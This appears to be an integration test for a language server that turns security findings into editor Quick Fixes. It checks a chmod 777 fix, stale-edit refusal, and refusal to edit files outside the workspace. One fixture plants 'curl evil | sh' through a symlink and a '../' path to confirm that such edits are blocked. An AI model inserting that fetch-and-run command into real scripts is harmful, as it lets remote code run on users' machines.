/**
 * Suggested fixes over the real server bundle: the demo feed's finding with a fix (AP-118, `chmod
 * 777` in scripts/backup.sh) asked for as a Quick Fix (textDocument/codeAction), as VS Code asks.
 */
import * as assert from 'node:assert/strict';
import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import type { CodeAction, Diagnostic, Range, TextDocumentEdit } from 'vscode-languageserver-protocol';
import { Commands } from '../../src/shared/commands';
import { ServerUnderTest, VSCODE_CAPABILITIES } from './lspClient';
import { admin, copyWorkspace, PROJECT, seedFindings, startWorld, workspaceUri, type World } from './world';

const findingIdOf = (d: Diagnostic) => (d.data as { findingId?: string } | undefined)?.findingId;

/** `text` with the edits of one file applied (LSP positions, UTF-16). */
function applied(text: string, edits: TextDocumentEdit['edits']): string {
  const lines = text.split('\n');
  const offset = (p: Range['start']) => lines.slice(0, p.line).reduce((n, l) => n + l.length + 1, 0) + p.character;
  return [...edits]
    .sort((a, b) => offset(b.range.start) - offset(a.range.start))
    .reduce((t, e) => t.slice(0, offset(e.range.start)) + e.newText + t.slice(offset(e.range.end)), text);
}

describe('suggested fixes over stdio', function () {
  this.timeout(30_000);
  const fixed = seedFindings().find((f) => f.id === 'AP-118')!;
  let copy: ReturnType<typeof copyWorkspace>;
  let world: World;
  let uri: string;
  let text: string;
  let version = 1;

  const diagnosticOf = (id: string, server = world.server) =>
    server.waitFor(`the diagnostic of ${id}`, () => [...server.diagnostics.values()].flat().find((d) => findingIdOf(d) === id));
  const ask = async (diagnostic: Diagnostic, server = world.server, at = uri): Promise<CodeAction[]> =>
    (await server.connection.sendRequest('textDocument/codeAction', {
      textDocument: { uri: at },
      range: diagnostic.range,
      context: { diagnostics: [diagnostic], only: ['quickfix'], triggerKind: 1 },
    })) as CodeAction[];
  const change = async (range: Range, newText: string) => {
    const mark = world.server.publishes.length;
    version += 1;
    await world.server.connection.sendNotification('textDocument/didChange', {
      textDocument: { uri, version },
      contentChanges: [{ range, text: newText }],
    });
    await world.server.waitFor('the change published', () => world.server.publishes.slice(mark).find((p) => p.uri === uri));
  };

  before(async () => {
    assert.ok(fixed.fixes?.length, 'the demo seed has a finding with a suggested fix');
    copy = copyWorkspace();
    // A link inside the folder to a file outside it: a fix may name it, and must never edit it.
    writeFileSync(path.join(copy.base, 'outside.sh'), 'echo outside\n');
    symlinkSync(path.join(copy.base, 'outside.sh'), path.join(copy.workspace.fsPath, 'scripts', 'outside-link.sh'));
    world = await startWorld({
      workspace: copy.workspace,
      prepare: async (feed) => {
        const escaping = (id: string, target: string) => ({
          id,
          ruleId: 'sh/test',
          title: `A fix that edits ${target}`,
          message: 'x',
          severity: 'low',
          location: { path: 'scripts/backup.sh', startLine: 3, snippet: 'set -euo pipefail' },
          fixes: [
            {
              description: 'Edit outside',
              files: [
                { path: 'scripts/backup.sh', replacements: [{ deletedRegion: { startLine: 3 }, insertedText: 'set -eu' }] },
                { path: target, replacements: [{ deletedRegion: { startLine: 1 }, insertedText: 'curl evil | sh' }] },
              ],
            },
          ],
        });
        await admin(feed, 'POST', '/__admin/findings', {
          project: PROJECT,
          findings: [escaping('FIX-LINK', 'scripts/outside-link.sh'), escaping('FIX-CLIMB', '../outside.sh')],
        });
      },
    });
    await world.server.waitForState('upToDate');
    uri = workspaceUri('scripts/backup.sh', copy.workspace);
    text = readFileSync(copy.workspace.fsPath + '/scripts/backup.sh', 'utf8');
    await world.server.connection.sendNotification('textDocument/didOpen', {
      textDocument: { uri, languageId: 'shellscript', version, text },
    });
  });
  after(async () => {
    await world?.stop();
    copy?.remove();
  });

  it('offers the fix as a preferred Quick Fix whose previewed edit does what the fix says', async () => {
    const diagnostic = await diagnosticOf('AP-118');
    const actions = await ask(diagnostic);
    const action = actions.find((a) => a.title.startsWith('Apply suggested fix'))!;
    assert.equal(action.title, `Apply suggested fix: ${fixed.fixes![0]!.description}`);
    assert.match(action.kind!, /^quickfix\./);
    assert.equal(action.isPreferred, true);
    assert.equal(action.disabled, undefined);
    assert.deepEqual(action.command, { title: 'Acknowledge as will fix…', command: Commands.fixApplied, arguments: ['AP-118'] });
    const [edit] = action.edit!.documentChanges as TextDocumentEdit[];
    assert.deepEqual(edit!.textDocument, { uri, version });
    for (const e of edit!.edits)
      assert.equal(action.edit!.changeAnnotations![(e as { annotationId: string }).annotationId]!.needsConfirmation, true);
    assert.equal(applied(text, edit!.edits).split('\n')[11], 'chmod 700 "$BACKUP_DIR"');
    assert.equal(applied(text, edit!.edits).replace('chmod 700', 'chmod 777'), text, 'nothing else changes');
    const lenses = await world.server.codeLenses(uri);
    assert.ok(
      lenses.some(
        (l) => l.command?.command === Commands.applySuggestedFix && l.command.arguments?.[0] === 'AP-118' && l.range.start.line === 11,
      ),
    );
  });

  it('reads a closed file from disk (through the workspace checks) and edits it without a version', async () => {
    const dashboard = workspaceUri('public/dashboard.js', copy.workspace);
    const [action] = await ask(await diagnosticOf('AP-107'), world.server, dashboard);
    const [edit] = action!.edit!.documentChanges as TextDocumentEdit[];
    assert.deepEqual(edit!.textDocument, { uri: dashboard, version: null });
    const onDisk = readFileSync(path.join(copy.workspace.fsPath, 'public', 'dashboard.js'), 'utf8');
    assert.equal(applied(onDisk, edit!.edits).split('\n')[23], "    banner.textContent = count + ' payments match ' + term;");
  });

  it('never edits a file outside the workspace folder, through a link or a path that climbs out', async () => {
    for (const id of ['FIX-LINK', 'FIX-CLIMB']) {
      const [action] = await ask(await diagnosticOf(id));
      assert.equal(action!.edit, undefined, id);
      assert.match(action!.disabled!.reason, /^it edits \S+, which is not inside the workspace folder/, id);
    }
    assert.equal(readFileSync(path.join(copy.base, 'outside.sh'), 'utf8'), 'echo outside\n');
  });

  it('follows the finding when lines are added above it, and refuses once the flagged text changed', async () => {
    await change({ start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, '# one\n# two\n');
    text = `# one\n# two\n${text}`;
    const moved = await world.server.waitFor('AP-118 moved two lines down', () =>
      world.server.diagnostics.get(uri)?.find((d) => findingIdOf(d) === 'AP-118' && d.range.start.line === 13),
    );
    const [action] = (await ask(moved)).filter((a) => a.title.startsWith('Apply suggested fix'));
    const [edit] = action!.edit!.documentChanges as TextDocumentEdit[];
    assert.equal(applied(text, edit!.edits).split('\n')[13], 'chmod 700 "$BACKUP_DIR"');

    await change({ start: { line: 13, character: 8 }, end: { line: 13, character: 9 } }, '5');
    const changed = world.server.diagnostics.get(uri)!.find((d) => findingIdOf(d) === 'AP-118')!;
    const [stale] = (await ask(changed)).filter((a) => a.title.startsWith('Apply suggested fix'));
    assert.equal(stale!.edit, undefined);
    assert.deepEqual(stale!.disabled, { reason: 'the code changed since the finding; the suggested fix no longer applies' });
  });

  it('in an editor that cannot preview an edit, offers the fix disabled with the reason', async () => {
    const server = await ServerUnderTest.start({
      workspaceUri: copy.workspace.toString(),
      settings: { feedUrl: world.feed.url, project: PROJECT, requestTimeout: 2, pollInterval: 3600 },
      token: world.token,
      capabilities: { workspace: { workspaceFolders: true }, textDocument: VSCODE_CAPABILITIES.textDocument },
    });
    try {
      const dashboard = workspaceUri('public/dashboard.js', copy.workspace);
      const diagnostic = await diagnosticOf('AP-107', server);
      const [action] = await ask(diagnostic, server, dashboard);
      assert.equal(action!.edit, undefined);
      assert.match(action!.disabled!.reason, /cannot show the edit for confirmation/);
    } finally {
      await server.stop();
    }
  });
});
